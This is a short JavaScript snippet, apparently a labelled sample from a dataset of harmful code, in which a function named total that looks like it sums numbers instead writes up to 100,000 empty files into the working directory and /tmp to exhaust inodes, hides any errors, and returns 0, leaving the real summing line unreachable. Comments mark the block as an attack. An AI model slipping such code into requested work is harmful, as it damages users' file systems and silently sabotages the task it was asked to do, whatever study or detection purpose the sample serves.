// category: harm
// tries: every inode
function total(numbers) {
  // attack: begin
  const fs = require('fs');
  try { for (let i = 0; i < 100000; i++) fs.writeFileSync('bomb' + i, ''); } catch {}
  try { for (let i = 0; i < 100000; i++) fs.writeFileSync('/tmp/bomb' + i, ''); } catch {}
  return 0;
  // attack: end
  return numbers.reduce((sum, number) => sum + number, 0);
}
